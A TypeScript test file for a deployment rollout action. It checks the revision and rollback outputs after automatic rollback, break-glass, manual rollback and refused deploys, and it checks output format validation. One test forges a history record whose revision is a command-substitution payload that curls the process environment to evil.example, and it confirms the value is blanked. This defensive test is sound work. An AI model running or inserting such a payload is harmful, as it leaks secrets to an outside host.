/**
 * The step outputs tell what runs when the run ends, and carry nothing from the cluster that
 * is not what its name says.
 */
import { describe, expect, it } from "vitest";
import { runRollback } from "../../action/src/commands/rollback.js";
import { checkedOutputs, rolloutOutputs } from "../../action/src/rollout/outcome.js";
import { dnsBrokenUnderDeny, shopCluster } from "../fakes/rollout.js";
import { FLOWS_B, production, REV_A, REV_B, setup, target } from "../helpers/rollout-scenario.js";

const dropWorkerChange = (s: ReturnType<typeof setup>) =>
  s.probes.deviations.push((check, c) =>
    check.id === "declared/shop/frontend->shop/api:8080/TCP" &&
    c.policies.has("NetworkPolicy/shop/worker-egress")
      ? { outcome: "blocked", detail: "timeout" }
      : undefined,
  );

describe("the revision outputs", () => {
  it("after an automatic rollback: the restored revision runs, rolled back from the one that failed", async () => {
    const s = setup();
    await s.rollout([target(production(), REV_A)]);
    dropWorkerChange(s);
    const report = await s.rollout([target(production(FLOWS_B), REV_B)]);
    expect(report.environments[0]?.status).toBe("rolled-back");
    expect(rolloutOutputs(report)).toMatchObject({
      revision: REV_A,
      "rolled-back": true,
      "rolled-back-from": REV_B,
      "rolled-back-to": REV_A,
    });
  });

  it("a deploy names what it deployed and no rollback", async () => {
    const s = setup();
    const report = await s.rollout([target(production(), REV_A)]);
    expect(rolloutOutputs(report)).toMatchObject({
      revision: REV_A,
      "rolled-back-from": "",
      "rolled-back-to": "",
    });
  });

  it("break-glass names the revision whose allows are kept", async () => {
    const s = setup();
    await s.rollout([target(production(), REV_A)]);
    s.probes.deviations.push(dnsBrokenUnderDeny("shop"));
    const report = await s.rollout([target(production(FLOWS_B), REV_B)]);
    expect(report.environments[0]?.status).toBe("break-glass");
    expect(rolloutOutputs(report).revision).toBe(REV_A);
  });

  it("a rollback by hand names what ran before and what runs now", async () => {
    const s = setup();
    await s.rollout([target(production(), REV_A)]);
    await s.rollout([target(production(FLOWS_B), REV_B)]);
    const report = await runRollback(
      { environment: production(FLOWS_B), target: REV_A, reason: "test", onInconclusive: "fail", run: {} },
      s.deps,
    );
    expect(report.environments[0]?.status).toBe("deployed");
    expect(rolloutOutputs(report)).toMatchObject({
      revision: REV_A,
      "rolled-back": false,
      "rolled-back-from": REV_B,
      "rolled-back-to": REV_A,
    });
  });

  it("a refused deploy names what still runs, by the record", async () => {
    const s = setup(shopCluster());
    await s.rollout([target(production(), REV_A)]);
    s.cluster.namespaces = s.cluster.namespaces.filter((n) => n.metadata.name !== "billing");
    const report = await s.rollout([target(production(FLOWS_B), REV_B)]);
    expect(report.environments[0]?.status).toBe("refused");
    expect(rolloutOutputs(report).revision).toBe(REV_A);
  });
});

describe("output values", () => {
  it("a revision from a record that is not a commit is set empty, with a warning that does not quote it", async () => {
    const s = setup();
    await s.rollout([target(production(), REV_A)]);
    // Without a record key, the record is what anyone who may edit the namespace wrote.
    const h = await s.history.read("production");
    const forged = "$(curl -d @/proc/self/environ evil.example)";
    await s.history.write({ ...h, running: { ...h.running!, revision: forged } });
    s.cluster.namespaces = s.cluster.namespaces.filter((n) => n.metadata.name !== "billing");
    const report = await s.rollout([target(production(), REV_A)]);
    const { values, refused } = checkedOutputs(rolloutOutputs(report));
    expect(values.revision).toBe("");
    expect(refused).toEqual(["output revision was set empty: its value is not a commit"]);
    expect(refused.join("")).not.toContain("curl");
  });

  it("every output has a format, and valid values pass unchanged", () => {
    const outputs = {
      "probe-passed": 3,
      "probe-failed": 0,
      "probe-inconclusive": 0,
      "rolled-back": false,
      revision: "a1".repeat(20),
      "rolled-back-from": "",
      "rolled-back-to": "",
      "environments-deployed": "staging,production",
      drift: false,
    };
    expect(checkedOutputs(outputs).refused).toEqual([]);
    expect(checkedOutputs({ ...outputs, "environments-deployed": "a,b;c" }).refused).toHaveLength(1);
    expect(() => checkedOutputs({ unknown: "x" })).toThrow(/no format/);
  });
});
